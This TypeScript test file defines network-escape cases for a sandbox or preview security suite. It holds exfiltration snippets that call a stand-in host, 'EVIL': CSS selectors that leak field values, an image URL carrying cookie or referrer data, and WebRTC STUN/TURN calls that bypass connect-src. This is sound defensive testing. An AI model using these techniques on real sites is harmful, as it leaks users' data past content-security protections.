import { LISTENER_PORT } from '../listener.ts';
import type { HostileCase } from '../hostileCase.ts';

const CSP = 'web-platform-tests: content-security-policy, connect-src and default-src tests';
const LEAKS = 'cure53 HTTPLeaks';
const RTC = 'web-platform-tests: content-security-policy/webrtc; "CSP and WebRTC" (w3c/webappsec-csp issue 92)';

const STUN = `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${LISTENER_PORT}' }, { urls: 'turn:127.0.0.1:${LISTENER_PORT}?transport=tcp', username: 'a', credential: 'b' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));`;
const FONT_USED = 'p { font: 20px pwned; }';
const NESTED_RTC =
  'Chromium 156 ends the process when a frame without a URL creates an RTCPeerConnection under a Connection-Allowlist.';

/** Cases that try to send or load data over the network. */
export const NETWORK_CASES: readonly HostileCase[] = [
  {
    name: 'fetches over https',
    source: CSP,
    javascript: `attempt('fetch', () => fetch('https://EVIL/fetch', { mode: 'no-cors' }));`,
  },
  {
    name: 'fetches over http with credentials, kept alive',
    source: CSP,
    javascript: `fetch('http://EVIL/keepalive', { method: 'POST', mode: 'no-cors', credentials: 'include', keepalive: true, body: 'x' });`,
  },
  {
    name: 'sends an XMLHttpRequest',
    source: CSP,
    javascript: `const request = new XMLHttpRequest(); request.open('POST', 'http://EVIL/xhr'); request.send('x');`,
  },
  {
    name: 'opens a WebSocket',
    source: CSP,
    javascript: `const socket = new WebSocket('ws://EVIL/socket'); socket.onopen = () => reach('a WebSocket'); new WebSocket('wss://EVIL/socket');`,
  },
  {
    name: 'opens an EventSource',
    source: CSP,
    javascript: `new EventSource('http://EVIL/events', { withCredentials: true });`,
  },
  { name: 'sends a beacon', source: CSP, javascript: `navigator.sendBeacon('http://EVIL/beacon', 'x');` },
  {
    name: 'opens a WebTransport',
    source: 'web-platform-tests: webtransport/csp-fail',
    javascript: `attempt('WebTransport', () => new WebTransport('https://127.0.0.1:${LISTENER_PORT}/transport').ready);`,
    harmlessAnywhere: 'the browsers of this suite run without QUIC',
  },
  { name: 'contacts a STUN and a TURN server by WebRTC', source: RTC, javascript: STUN },
  {
    name: 'contacts a STUN server from a srcdoc frame',
    source: RTC,
    html: `<iframe srcdoc="<script>${STUN}</script>"></iframe>`,
    endsPreviews: NESTED_RTC,
  },
  {
    name: 'contacts a STUN server from a frame with a javascript: URL',
    source: RTC,
    html: `<iframe src="javascript:'<script>${STUN.replaceAll("'", '&quot;')}</script>'"></iframe>`,
    endsPreviews: NESTED_RTC,
  },
  {
    name: 'uses RTCPeerConnection of a new frame',
    source: 'PortSwigger: recovering natives from an iframe',
    javascript: `const fresh = document.body.appendChild(document.createElement('iframe')); const RTCPeerConnection = fresh.contentWindow.RTCPeerConnection; ${STUN}`,
  },
  { name: 'loads a script', source: CSP, html: '<script src="https://EVIL/script.js"></script>' },
  { name: 'imports a module', source: CSP, javascript: `attempt('a module', () => import('https://EVIL/module.js'));` },
  {
    name: 'evaluates strings as code',
    source: CSP,
    javascript: `attempt('eval', () => eval('1')); attempt('Function', () => new Function('return 1')()); attempt('a timer made of text', () => new Promise((resolve) => { window.ran = resolve; setTimeout('ran(true)', 0); }));`,
  },
  {
    name: 'imports a style sheet from CSS',
    source: LEAKS,
    css: '@import url("https://EVIL/import.css"); @import "http://EVIL/import.css" screen;',
  },
  {
    name: 'sends the values of its fields by attribute selectors over http',
    source: 'XS-Leaks wiki: CSS injection',
    html: '<input value="secret"><p>x</p>',
    css: 'input[value^="s"] ~ p { background: url(http://EVIL/s); } p { cursor: url(http://EVIL/cursor), auto; list-style: url(http://EVIL/list); border-image: url(http://EVIL/border) 1; mask: url(http://EVIL/mask); }',
  },
  {
    name: 'loads a font over http',
    source: LEAKS,
    html: '<p>font</p>',
    css: `@font-face { font-family: pwned; src: url(http://EVIL/font.woff2); } ${FONT_USED}`,
  },
  {
    name: 'loads a font over https letter by letter',
    source: 'XS-Leaks wiki: CSS injection by unicode-range',
    asks: true,
    html: '<p>font</p>',
    css: `@font-face { font-family: pwned; src: url(https://EVIL/font.woff2); unicode-range: U+66; } ${FONT_USED}`,
  },
  {
    name: 'loads an image over https with data in its URL',
    source: LEAKS,
    asks: true,
    html: '<img id="leak" referrerpolicy="unsafe-url">',
    javascript: `leak.src = 'https://EVIL/image?' + encodeURIComponent(document.cookie_ || document.referrer);`,
  },
  {
    name: 'requests a Referer for every image by a meta element',
    source: LEAKS,
    asks: true,
    html: '<meta name="referrer" content="unsafe-url"><img src="https://EVIL/meta">',
  },
  {
    name: 'loads an image with credentials',
    source: LEAKS,
    asks: true,
    html: '<img crossorigin="use-credentials" src="https://EVIL/credentials">',
  },
  {
    name: 'loads images over http by every HTML feature',
    source: LEAKS,
    html: '<img src="http://EVIL/a" srcset="http://EVIL/b 2x"><picture><source srcset="http://EVIL/c"><img></picture><input type="image" src="http://EVIL/d"><body background="http://EVIL/e"><table background="http://EVIL/f"><tr><td></table><svg><image href="http://EVIL/g"/><use href="http://EVIL/h#x"/><feImage href="http://EVIL/i"/></svg>',
  },
  {
    name: 'loads media over https and http',
    source: LEAKS,
    html: '<video autoplay src="https://EVIL/video" poster="http://EVIL/poster"></video><audio autoplay src="http://EVIL/audio"></audio><video><track default src="https://EVIL/track"></video>',
  },
  {
    name: 'hints at resources by link elements',
    source: LEAKS,
    html: '<link rel="preload" as="script" href="https://EVIL/preload"><link rel="preload" as="fetch" href="https://EVIL/fetch"><link rel="modulepreload" href="https://EVIL/module"><link rel="manifest" href="https://EVIL/manifest"><link rel="compression-dictionary" href="https://EVIL/dictionary"><link rel="icon" href="http://EVIL/icon">',
  },
  {
    name: 'connects ahead by preconnect and dns-prefetch',
    source: LEAKS,
    html: '<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="http://dns.EVIL/"><link rel="preconnect" href="http://connect.EVIL/">',
    harmlessAnywhere: 'the browser under test runs without background networking and makes no early connections',
  },
  {
    name: 'prefetches a page over https',
    source: LEAKS,
    asks: true,
    html: '<link rel="prefetch" href="https://EVIL/prefetch">',
  },
  {
    name: 'prerenders pages by speculation rules',
    source: 'web-platform-tests: speculation-rules CSP tests',
    html: '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://EVIL/speculated"]}],"prerender":[{"source":"list","urls":["https://EVIL/prerendered"]}]}</script>',
    harmlessAnywhere: 'browsers ignore speculation rules in frames',
  },
  {
    name: 'sends a ping when the visitor clicks',
    source: 'html5sec: ping attribute',
    press: true,
    html: '<a style="position:fixed;inset:0" href="#x" ping="http://EVIL/ping">Go</a>',
  },
  {
    name: 'sends a request to the site’s API',
    source: CSP,
    javascript: `attempt('the API', () => fetch('http://localhost:${LISTENER_PORT}/api', { credentials: 'include', mode: 'no-cors' }));`,
  },
];
